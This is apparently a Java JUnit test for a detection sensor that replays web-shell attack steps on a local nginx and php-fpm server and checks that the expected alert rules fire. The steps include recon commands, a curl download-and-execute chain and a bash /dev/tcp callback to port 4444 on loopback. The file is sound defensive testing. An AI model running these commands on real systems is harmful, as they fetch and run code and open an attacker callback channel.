package io.spawnwatch.daemon;

import static io.spawnwatch.daemon.SensorHarness.text;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.spawnwatch.config.ConfigLoader;
import io.spawnwatch.config.SensorConfig;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Predicate;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * Every step of a web-shell attack on Debian's nginx + php-fpm, under the real
 * sensor with the shipped rules: the expected alerts, with the expected rule
 * ids, and nothing for the same server serving files and plain PHP. Loopback
 * is configured as external so that the callback connection counts.
 */
@Tag("kernel")
class WebShellAlertsTest {
    static final String SUSPICIOUS_CHILD_EXECUTION = "2057ea35-2652-423f-94f4-eb886c31ebe0";
    static final String SUSPICIOUS_CHILD_PROCESS = "c903906e-993c-4f94-895a-ad73f7c2c7ee";
    static final String SUSPICIOUS_COMMAND = "dc784b85-1db7-4893-84ae-1ecfec976d10";
    static final String UNUSUAL_CHILD = "f160b0d5-0a15-45b0-b5cf-94c31fa36b6e";
    static final String UNUSUAL_COMMAND = "1d87a9aa-2c05-497b-95fd-a15d5e5c27eb";
    static final String UNUSUAL_NETWORK = "a37911ed-7030-4fbf-8fc2-8486c7bf8555";
    static final String UNUSUAL_PROCESS = "318e95ea-2c21-4272-b1a1-bf07308e812b";
    private static final Duration WAIT = Duration.ofSeconds(15);
    private static final int CALLBACK_PORT = 4444;

    @Test
    void shouldAlertOnEveryStepOfAWebShellAndNotOnNormalServing() throws Exception {
        SensorConfig defaults = ConfigLoader.defaults();
        SensorConfig config = defaults.withDetection(defaults.detection().withStatePath(null)
                .withInternalRanges(List.of()).withLoopbackRanges(List.of()));
        String dropped = "/tmp/sw-" + UUID.randomUUID().toString().substring(0, 8);
        try (SensorHarness harness = SensorHarness.start(config);
                RealWebServers web = new RealWebServers();
                ServerSocket callback = new ServerSocket(CALLBACK_PORT, 50, InetAddress.getLoopbackAddress())) {
            acceptForever(callback);
            Files.copy(Path.of("/bin/true"), web.dir.resolve("www/x"), StandardCopyOption.COPY_ATTRIBUTES);

            // Normal work first: a static file and a plain PHP page.
            assertEquals("<h1>static</h1>\n", web.get("/index.html"));
            assertEquals("hello 3\n", web.get("/hello.php"));

            // The attack, step by step.
            web.shell("id");
            web.shell("uname -a");
            web.shell("curl -so " + dropped + " http://127.0.0.1:" + web.port + "/x && chmod +x " + dropped
                    + " && " + dropped);
            // '; true': the callback must come from a bash child of the web shell's sh, the shape the assertions name.
            web.shell("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + CALLBACK_PORT + "'; true");

            String payloadName = Path.of(dropped).getFileName().toString();
            await(harness, SUSPICIOUS_COMMAND, process("sh", "sh -c id"));
            await(harness, UNUSUAL_COMMAND, process("sh", "sh -c id"));
            await(harness, UNUSUAL_PROCESS, process("sh", "sh -c id"));
            // Debian's dash forks id and uname rather than exec'ing them in
            // place, so they are grandchildren of php-fpm: the "Unusual Child"
            // new-terms rule (direct children only) stays quiet for them.
            JsonNode uname = await(harness, SUSPICIOUS_CHILD_PROCESS, process("uname", "uname -a"));
            await(harness, SUSPICIOUS_CHILD_EXECUTION, d -> "curl".equals(text(d, "process.name")));
            JsonNode payload = await(harness, SUSPICIOUS_CHILD_EXECUTION,
                    d -> payloadName.equals(text(d, "process.name")));
            await(harness, UNUSUAL_PROCESS, d -> payloadName.equals(text(d, "process.name")));
            JsonNode c2 = await(harness, UNUSUAL_NETWORK,
                    d -> Integer.toString(CALLBACK_PORT).equals(text(d, "destination.port")));

            // What an alert carries: the rule, the threat, the event and its lineage.
            assertEquals("alert", text(uname, "event.kind"));
            assertEquals("Suspicious Web Server Child Process", text(uname, "rule.name"));
            assertEquals("73", text(uname, "event.risk_score"));
            assertEquals("MITRE ATT&CK", text(uname, "threat.framework"));
            assertEquals("www-data", text(uname, "user.name"));
            assertEquals("/usr/bin/uname", text(uname, "process.executable"));
            assertEquals("php-fpm8.2", text(uname, "spawnwatch.lineage.root.name"));
            assertEquals(dropped, text(payload, "process.executable"));
            assertEquals("127.0.0.1", text(c2, "destination.ip"));
            assertEquals("network", c2.path("event").path("category").get(0).asText());

            // Every alert of these servers belongs to the attack: none for the
            // static file, the plain PHP page, or the servers themselves.
            Set<String> servers = Set.of(Long.toString(web.fpmPid()), Long.toString(web.nginxPid()));
            Set<String> seen = new TreeSet<>();
            for (JsonNode d : harness.seen()) {
                if (!"alert".equals(text(d, "event.kind"))) {
                    continue;
                }
                if (!servers.contains(text(d, "spawnwatch.lineage.root.pid"))
                        && !servers.contains(text(d, "process.pid"))) {
                    continue; // another web server on this host
                }
                String name = text(d, "process.name");
                seen.add(text(d, "rule.id") + " " + name);
                assertTrue(Set.of("sh", "id", "uname", "curl", "chmod", payloadName, "bash").contains(name),
                        "unexpected alert: " + d);
            }
            assertTrue(seen.size() >= 9, "alerts: " + seen);
        } finally {
            Files.deleteIfExists(Path.of(dropped));
        }
    }

    private static Predicate<JsonNode> process(String name, String commandLine) {
        return d -> name.equals(text(d, "process.name")) && commandLine.equals(text(d, "process.command_line"));
    }

    private static JsonNode await(SensorHarness harness, String ruleId, Predicate<JsonNode> event)
            throws InterruptedException {
        return harness.await(d -> "alert".equals(text(d, "event.kind")) && ruleId.equals(text(d, "rule.id"))
                && event.test(d), WAIT, "alert " + ruleId);
    }

    /** Accepts and reads each connection until the listener closes: the attacker's end of a callback. */
    static void acceptForever(ServerSocket listener) {
        Thread t = new Thread(() -> {
            while (!listener.isClosed()) {
                try (Socket s = listener.accept()) {
                    s.getInputStream().read();
                } catch (Exception e) {
                    return;
                }
            }
        });
        t.setDaemon(true);
        t.start();
    }
}
